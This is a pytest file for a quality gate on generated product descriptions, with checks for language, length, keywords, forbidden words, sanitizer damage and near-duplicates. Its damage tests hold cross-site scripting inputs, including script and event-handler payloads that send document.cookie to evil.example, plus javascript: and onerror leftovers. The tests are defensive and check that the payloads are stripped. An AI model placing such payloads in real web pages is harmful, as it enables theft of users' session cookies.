"""The quality gate: each check holds its rule, and the worst outcome wins."""

import pytest

from descgen.quality.gate import Candidate, Neighbour, Subject, _language, assess
from descgen.quality.near_duplicates import BANDS, sketches
from descgen.quality.normalize import normalized
from descgen.quality.voice import BrandVoice, Check, GlossaryTerm, LengthTarget, Thresholds
from descgen.sanitize import sanitize_html

TAGS = frozenset({"p", "ul", "li", "span", "strong", "em"})
META_TITLE = "French Press 1L for rich coffee"
META_DESCRIPTION = "A sturdy steel French press that brews rich coffee every morning, eight cups at a time."

ENGLISH = (
    "<p>This French press makes rich coffee every morning. Its steel frame and heat-proof glass keep it sturdy "
    "for years, and the fine mesh filter keeps the grounds out of your cup.</p>"
    "<ul><li>One litre, eight cups</li><li>Parts that go in the dishwasher</li></ul>"
    "<p>Let it brew for four minutes, press slowly and pour. A simple ritual that turns good beans into a great "
    "cup, at home or at the office.</p>"
)
# Another product entirely, in the same store's voice.
ENGLISH_KETTLE = (
    "<p>A cordless kettle that boils a full litre in under three minutes. The brushed steel body stays cool to "
    "the touch, and a blue light glows while the water heats.</p>"
    "<ul><li>Auto shut-off when dry</li><li>Limescale filter you can rinse</li></ul>"
    "<p>Lift it off the base, fill it through the wide lid and switch it on: tea for two, or pasta water for a "
    "family, ready before you know it.</p>"
)
GERMAN = (
    "<p>Diese French Press macht jeden Morgen vollmundigen Kaffee. Der Rahmen aus Stahl und das hitzefeste Glas "
    "halten sie über Jahre stabil, und der feine Filter hält den Kaffeesatz aus der Tasse.</p>"
    "<ul><li>Ein Liter, acht Tassen</li><li>Teile für die Spülmaschine</li></ul>"
    "<p>Vier Minuten ziehen lassen, langsam drücken und eingießen. Ein einfaches Ritual, das gute Bohnen in "
    "eine großartige Tasse verwandelt, zu Hause oder im Büro.</p>"
)
FRENCH = (
    "<p>Cette cafetière à piston prépare chaque matin un café riche et savoureux. Son cadre en acier et son verre "
    "résistant à la chaleur la rendent solide pendant des années, et son filtre fin garde le marc hors de la "
    "tasse.</p><ul><li>Un litre, huit tasses</li><li>Pièces lavables au lave-vaisselle</li></ul>"
    "<p>Laissez infuser quatre minutes, pressez doucement et servez. Un petit rituel qui transforme de bons "
    "grains en une excellente tasse, à la maison comme au bureau.</p>"
)
JAPANESE = (
    "<p>このフレンチプレスは、毎朝のコーヒーを豊かで香り高い一杯にします。丈夫なステンレスの枠と耐熱ガラスで、"
    "何年も安心して使えます。細かいメッシュのフィルターが粉をしっかりこし取ります。</p>"
    "<p>四分間蒸らして、ゆっくり押して注ぐだけ。良い豆を最高の一杯に変える、シンプルな習慣です。</p>"
)
SHORT_JAPANESE = "<p>このフレンチプレスは、毎朝のコーヒーを豊かにする一杯です。</p>"  # 29 characters
SHORT_GERMAN = "<p>Robuster Wasserkocher aus Edelstahl für jeden Tag.</p>"  # 47 characters, 7 words


def read(
    body: str,
    language: str = "en",
    *,
    raw: str | None = None,
    meta_title: str = META_TITLE,
    meta_description: str = META_DESCRIPTION,
    meta_derived: bool = False,
) -> Candidate:
    """The answer as the gate reads it: sanitized as the verdict does, normalized and sketched."""
    written = body if raw is None else raw
    html = sanitize_html(written, TAGS, {})
    plain = normalized(html)
    [sketch] = sketches([(plain, language)])
    return Candidate(html, written, meta_title, meta_description, meta_derived, plain, sketch)


def subject(language: str = "en", product: str = "P1", keywords: tuple[str, ...] = ("french press", "coffee")):
    return Subject(product, language, "French Press 1L", keywords, {"material": "steel"})


def check(result, which: Check):
    return next(r for r in result.results if r.check == which)


def failed(result) -> set[Check]:
    return {r.check for r in result.failed}


@pytest.mark.parametrize(
    ("body", "language"),
    [(ENGLISH, "en"), (GERMAN, "de"), (FRENCH, "fr"), (JAPANESE, "ja"), (GERMAN, "de-CH")],
)
def test_a_good_answer_passes_every_check_and_is_published(body, language):
    result = assess(read(body, language), subject(language, keywords=()), BrandVoice(), [])
    assert (result.outcome, result.failed) == ("publish", [])


# --- language ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "language", "written_in"),
    [(FRENCH, "de", "fr"), (ENGLISH, "de", "en"), (GERMAN, "fr", "de"), (ENGLISH, "ja", "en"), (FRENCH, "en", "fr")],
)
def test_a_description_in_the_wrong_language_is_retried_naming_the_language_it_is_in(body, language, written_in):
    result = assess(read(body, language), subject(language, keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.LANGUAGE}
    assert f"written in {written_in} " in check(result, Check.LANGUAGE).reason
    assert f"not {language}" in check(result, Check.LANGUAGE).reason
    assert result.outcome == "retry"


def test_a_text_too_short_to_tell_its_language_passes_that_check():
    result = assess(read("<p>Kaffee!</p>", "fr"), subject("fr", keywords=()), BrandVoice(), [])
    assert check(result, Check.LANGUAGE).passed


# --- length ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "language", "count"),
    [(SHORT_JAPANESE, "ja", "29 characters"), (SHORT_GERMAN, "de", "7 words")],
    ids=["ja", "de"],
)
def test_a_short_answer_fails_the_default_length_and_passes_where_the_voice_allows_it(body, language, count):
    # GIVEN a short, valid answer
    candidate = read(body, language)
    # WHEN the store keeps the default length, it is too short
    default = assess(candidate, subject(language, keywords=()), BrandVoice(), [])
    assert failed(default) == {Check.LENGTH}
    assert check(default, Check.LENGTH).reason.startswith(f"{count}, below")
    # WHEN the voice allows short copy in that language, it is published
    voice = BrandVoice(length={language: LengthTarget(min=5, max=200)})
    allowed = assess(candidate, subject(language, keywords=()), voice, [])
    assert (allowed.outcome, allowed.failed) == ("publish", [])
    assert check(allowed, Check.LENGTH).reason == count


def test_a_voices_length_for_the_base_language_holds_for_its_regions_and_an_answer_over_it_fails():
    voice = BrandVoice(length={"de": LengthTarget(min=5, max=30)})
    assert check(assess(read(SHORT_GERMAN, "de-AT"), subject("de-AT", keywords=()), voice, []), Check.LENGTH).passed
    too_long = check(assess(read(GERMAN, "de"), subject("de", keywords=()), voice, []), Check.LENGTH)
    assert not too_long.passed
    assert "above 5-30" in too_long.reason


# --- meta ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("meta_title", "meta_description", "problem"),
    [
        ("Press", META_DESCRIPTION, "meta title has 5 characters"),
        ("French Press " * 5, META_DESCRIPTION, "meta title has 65 characters"),
        (META_TITLE, "Rich coffee.", "meta description has 12 characters"),
        (META_TITLE, "x" * 161, "meta description has 161 characters"),
    ],
)
def test_meta_fields_out_of_bounds_are_retried(meta_title, meta_description, problem):
    candidate = read(ENGLISH, meta_title=meta_title, meta_description=meta_description)
    result = assess(candidate, subject(keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.META}
    assert problem in check(result, Check.META).reason


def test_derived_meta_fields_are_not_judged():
    candidate = read(ENGLISH, meta_title="Press", meta_description="Short.", meta_derived=True)
    assert check(assess(candidate, subject(keywords=()), BrandVoice(), []), Check.META).passed


# --- keywords and glossary ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "meta_title", "keywords", "problem"),
    [
        (ENGLISH, "A great brewer for rich coffee", ("french press",), "not in the meta title"),
        (
            "<p>Rich coffee every morning, for years.</p>" + ENGLISH,
            META_TITLE,
            ("french press",),
            "not in the first paragraph",
        ),
        (ENGLISH, META_TITLE, ("french press", "tea", "milk", "sugar"), "1 of 4 keywords used"),
    ],
    ids=["primary not in the meta title", "primary not in the first paragraph", "too few keywords"],
)
def test_keywords_missing_where_they_belong_hold_the_answer_for_review(body, meta_title, keywords, problem):
    result = assess(read(body, meta_title=meta_title), subject(keywords=keywords), BrandVoice(), [])
    assert failed(result) == {Check.KEYWORDS}
    assert problem in check(result, Check.KEYWORDS).reason
    assert result.outcome == "hold"


def test_the_meta_title_of_a_text_answer_is_ours_and_not_held_against_its_keywords():
    candidate = read(ENGLISH, meta_title="A great brewer for rich coffee", meta_derived=True)
    assert check(assess(candidate, subject(keywords=("french press",)), BrandVoice(), []), Check.KEYWORDS).passed


def test_keywords_are_found_in_any_case_and_form_and_half_of_them_is_enough():
    keywords = ("French Press", "coffees", "steel", "dishwasher", "cocoa", "milk")
    result = assess(read(ENGLISH), subject(keywords=keywords), BrandVoice(), [])
    assert check(result, Check.KEYWORDS).passed
    assert check(result, Check.KEYWORDS).reason == "3 of 6 keywords"


GLOSSARY = BrandVoice(
    glossary=[GlossaryTerm(term="French press", translations={"de": "French Press", "fr": "cafetière à piston"})]
)


@pytest.mark.parametrize(
    ("body", "language", "passed"),
    [
        (GERMAN, "de", True),
        (GERMAN.replace("French Press", "Kaffeepresse"), "de", False),
        (FRENCH, "fr", True),
        (FRENCH.replace("cafetière à piston", "French press"), "fr", False),
    ],
    ids=["de as given", "de translated", "fr as given", "fr left in English"],
)
def test_a_glossary_term_the_product_mentions_is_used_in_the_form_given_for_the_language(body, language, passed):
    result = assess(read(body, language), subject(language, keywords=()), GLOSSARY, [])
    assert check(result, Check.GLOSSARY).passed is passed
    assert result.outcome == ("publish" if passed else "hold")


def test_the_primary_keyword_is_looked_for_in_its_glossary_form():
    candidate = read(GERMAN, "de", meta_title="French Press 1 Liter aus Stahl")
    assert check(assess(candidate, subject("de", keywords=("french press",)), GLOSSARY, []), Check.KEYWORDS).passed


def test_a_glossary_term_the_product_does_not_mention_does_not_apply():
    voice = BrandVoice(glossary=[GlossaryTerm(term="kettle", translations={"en": "water boiler"})])
    assert check(assess(read(ENGLISH), subject(keywords=()), voice, []), Check.GLOSSARY).passed


# --- forbidden ---------------------------------------------------------------------------------

FORBIDDEN = BrandVoice(forbidden=["cheap", "best in class"])


@pytest.mark.parametrize(
    "phrase",
    [
        "cheap",
        "CHEAP",
        "Cheap!",
        "ｃｈｅａｐ",
        "che<strong></strong>ap",
        "che<span>ap</span>",
        "ch&#101;ap",
        "che&shy;ap",
        "che\u200bap",
        "best <em>in</em> class",
        "best\u00a0in class",
        "best  in\nclass",
    ],
    ids=[
        "plain",
        "upper case",
        "with punctuation",
        "full-width",
        "split by an empty tag",
        "split by a tag",
        "an entity inside",
        "a soft hyphen inside",
        "a zero-width space inside",
        "a phrase split by tags",
        "a phrase with a no-break space",
        "a phrase across a line break",
    ],
)
def test_a_forbidden_word_is_found_in_any_disguise_and_retried(phrase):
    body = ENGLISH.replace("every morning", f"every morning, {phrase},")
    result = assess(read(body), subject(keywords=()), FORBIDDEN, [])
    assert failed(result) == {Check.FORBIDDEN}
    assert result.outcome == "retry"


def test_a_forbidden_word_in_a_meta_field_is_found_and_part_of_a_longer_word_is_not():
    in_meta = read(ENGLISH, meta_description=META_DESCRIPTION.replace("sturdy", "cheap"))
    assert not check(assess(in_meta, subject(keywords=()), FORBIDDEN, []), Check.FORBIDDEN).passed
    inside_a_word = read(ENGLISH.replace("every morning", "without cheapening it"))
    assert check(assess(inside_a_word, subject(keywords=()), FORBIDDEN, []), Check.FORBIDDEN).passed


# --- damage ------------------------------------------------------------------------------------

SCRIPT = "<script>" + "fetch('https://evil.example/?c=' + document.cookie); " * 8 + "</script>"
HANDLER = ' onmouseover="' + "fetch('https://evil.example/?c=' + document.cookie); " * 8 + '"'


@pytest.mark.parametrize(
    "raw",
    [
        SCRIPT + ENGLISH,
        ENGLISH.replace("<p>", "<p" + HANDLER + ">", 1),
        "<style>" + "p { color: red; background: url(https://evil.example/x.png); } " * 8 + "</style>" + ENGLISH,
        "<svg><text>" + "A picture of a press. " * 40 + "</text></svg>" + ENGLISH,
    ],
    ids=["a script", "an event handler", "a style", "an svg"],
)
def test_an_answer_that_is_mostly_stripped_markup_fails_the_damage_check(raw):
    result = assess(read(ENGLISH, raw=raw), subject(keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.DAMAGE}
    assert "removed by the sanitizer" in check(result, Check.DAMAGE).reason
    assert result.outcome == "retry"


def test_an_answer_the_sanitizer_barely_touched_passes_the_damage_check():
    raw = ENGLISH.replace("<p>", '<p class="lead" onclick="go()">', 1).replace("rich", "<b>rich</b>")
    assert check(assess(read(ENGLISH, raw=raw), subject(keywords=()), BrandVoice(), []), Check.DAMAGE).passed


@pytest.mark.parametrize(
    "leftover",
    [
        "javascript:alert(1)",
        "JavaScript:void(0)",
        "java<strong></strong>script:x",
        "java&#x200b;script:x",
        "&#106;avascript:x",
        "ｊａｖａｓｃｒｉｐｔ:x",
        "alert`1`",
        "document.cookie",
        "&lt;script src=//evil.example&gt;&lt;/script&gt;",
        "&lt;img src=x onerror=steal()&gt;",
    ],
)
def test_script_leftovers_in_the_sanitized_text_fail_the_damage_check(leftover):
    body = ENGLISH.replace("every morning", f"every morning {leftover}")
    result = assess(read(body), subject(keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.DAMAGE}
    assert "script leftovers" in check(result, Check.DAMAGE).reason


@pytest.mark.parametrize(
    "broken",
    ["\ufffd", "&#xFFFD;", "&#0;"],
    ids=["replacement character", "as an entity", "a null reference"],
)
def test_broken_characters_fail_the_damage_check(broken):
    body = ENGLISH.replace("every morning", f"every morning {broken}")
    result = assess(read(body), subject(keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.DAMAGE}
    assert "1 broken characters" in check(result, Check.DAMAGE).reason


def test_a_lone_surrogate_fails_the_damage_check():
    # nh3 cannot take one, so the candidate is built by hand: the html as it would be stored
    good = read(ENGLISH)
    html = good.html.replace("every morning", "every morning \ud800")
    candidate = Candidate(html, html, META_TITLE, META_DESCRIPTION, False, good.plain, good.sketch)
    result = assess(candidate, subject(keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.DAMAGE}
    assert "1 broken characters" in check(result, Check.DAMAGE).reason


def test_a_broken_character_in_a_meta_field_fails_the_damage_check():
    candidate = read(ENGLISH, meta_title="French Press 1L \ufffd rich coffee")
    assert not check(assess(candidate, subject(keywords=()), BrandVoice(), []), Check.DAMAGE).passed


def test_more_empty_or_orphan_elements_than_the_voice_allows_fail_the_damage_check():
    body = ENGLISH + "<p></p><p> </p><li>Orphan</li>Loose text"
    result = assess(read(body), subject(keywords=()), BrandVoice(), [])
    assert failed(result) == {Check.DAMAGE}
    assert "4 empty or orphan elements" in check(result, Check.DAMAGE).reason
    lenient = BrandVoice(thresholds=Thresholds(broken_elements=4))
    assert check(assess(read(body), subject(keywords=()), lenient, []), Check.DAMAGE).passed


# --- duplicate ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "second",
    [
        ENGLISH,
        "<div>" + ENGLISH.replace("</p>", "</p>\n") + "</div>",
        ENGLISH.replace("French press", "Cold brew press"),
        ENGLISH.replace("every morning", "each morning").replace("for years", "for decades"),
    ],
    ids=["the same text", "the same text in other markup", "the product name swapped", "two phrases changed"],
)
def test_a_second_product_with_the_same_or_nearly_the_same_text_is_caught_as_a_near_duplicate(second):
    # GIVEN the store already publishes P1's text
    first = read(ENGLISH)
    neighbours = [Neighbour("P1", first.sketch.signature)]
    # WHEN P2's answer says the same, or nearly
    result = assess(read(second), subject(product="P2", keywords=()), BrandVoice(), neighbours)
    # THEN it is retried as a duplicate of P1
    assert failed(result) == {Check.DUPLICATE}
    assert (result.outcome, result.duplicate_of) == ("retry", "P1")
    assert "similar to product P1's text" in check(result, Check.DUPLICATE).reason


def test_a_second_product_with_the_same_japanese_text_is_caught_as_a_near_duplicate():
    neighbours = [Neighbour("P1", read(JAPANESE, "ja").sketch.signature)]
    result = assess(read(JAPANESE, "ja"), subject("ja", product="P2", keywords=()), BrandVoice(), neighbours)
    assert (failed(result), result.duplicate_of) == ({Check.DUPLICATE}, "P1")


def test_unrelated_texts_and_the_products_own_earlier_text_are_not_duplicates():
    neighbours = [
        Neighbour("P1", read(ENGLISH).sketch.signature),
        Neighbour("P3", read(ENGLISH_KETTLE).sketch.signature),
    ]
    unrelated = assess(read(ENGLISH_KETTLE), subject(product="P2", keywords=()), BrandVoice(), neighbours[:1])
    assert check(unrelated, Check.DUPLICATE).passed
    assert unrelated.duplicate_of is None
    own = assess(read(ENGLISH), subject(product="P1", keywords=()), BrandVoice(), neighbours)
    assert check(own, Check.DUPLICATE).passed


def test_the_same_text_falls_in_the_same_lsh_buckets_and_an_unrelated_one_rarely_does():
    same, again, other = sketches([(normalized(t), "en") for t in (ENGLISH, ENGLISH, ENGLISH_KETTLE)])
    assert len(same.bands) == BANDS
    assert same.bands == again.bands
    assert len(set(same.bands) & set(other.bands)) <= 1


# --- outcomes ----------------------------------------------------------------------------------


def test_the_worst_outcome_wins_and_a_retry_on_the_last_attempt_is_held():
    # GIVEN an answer that misses a keyword (hold) and uses a forbidden word (retry)
    candidate = read(ENGLISH.replace("every morning", "cheap"), meta_title="A great brewer for rich coffee")
    voice = BrandVoice(forbidden=["cheap"])
    result = assess(candidate, subject(), voice, [])
    assert failed(result) == {Check.KEYWORDS, Check.FORBIDDEN}
    assert result.outcome == "retry"
    assert result.reasons("retry", voice) == ["forbidden: uses 'cheap'"]
    # WHEN it is the last attempt, the text already paid for is held, not thrown away
    assert assess(candidate, subject(), voice, [], last_attempt=True).outcome == "hold"
    # WHEN the store publishes forbidden words anyway, the keyword miss holds it
    lenient = BrandVoice(forbidden=["cheap"], outcomes={Check.FORBIDDEN: "publish"})
    assert assess(candidate, subject(), lenient, []).outcome == "hold"


def test_a_voices_outcome_for_a_check_replaces_the_default():
    voice = BrandVoice(outcomes={Check.LANGUAGE: "hold", Check.KEYWORDS: "publish"})
    result = assess(read(FRENCH, "de", meta_title="Cafetière à piston, un litre"), subject("de"), voice, [])
    assert failed(result) == {Check.LANGUAGE, Check.KEYWORDS}
    assert result.outcome == "hold"


def test_only_what_shapes_the_answer_is_in_the_voices_prompt_digest():
    voice = BrandVoice(tone="warm")
    assert voice.prompt_digest() == BrandVoice(tone="warm", outcomes={Check.LENGTH: "hold"}).prompt_digest()
    assert voice.prompt_digest() == BrandVoice(tone="warm", thresholds=Thresholds(keyword_share=0.9)).prompt_digest()
    assert voice.prompt_digest() != BrandVoice(tone="plain").prompt_digest()
    assert voice.prompt_digest() != BrandVoice(tone="warm", forbidden=["cheap"]).prompt_digest()


CROATIAN = (
    "ovaj lagani šator za dvije osobe drži vas suhima na svakom putovanju, a aluminijske šipke "
    "postavljaju se za nekoliko minuta i pod ne propušta vodu"
)


def test_a_text_the_detector_cannot_place_among_close_languages_is_still_not_german():
    # the lite model spreads Croatian over hr, bs, sr and sh: no single guess is sure, but German it is not
    german = _language(CROATIAN, "de", BrandVoice())
    assert not german.passed
    assert german.reason.startswith("written in hr")
    for close in ("hr", "sr", "bs"):
        assert _language(CROATIAN, close, BrandVoice()).passed, close


def test_a_text_all_but_surely_not_in_the_requested_language_fails_even_below_the_confidence_threshold():
    # the voice trusts no single guess under 0.99; French for a German task still has no German in it
    sure_of_nothing = BrandVoice(thresholds=Thresholds(language_confidence=0.99))
    french = _language(
        "cette tente légère protège du vent et de la pluie pendant toutes vos randonnées en montagne "
        "et se range facilement dans un petit sac",
        "de",
        sure_of_nothing,
    )
    assert not french.passed
    assert french.reason.startswith("written in fr")
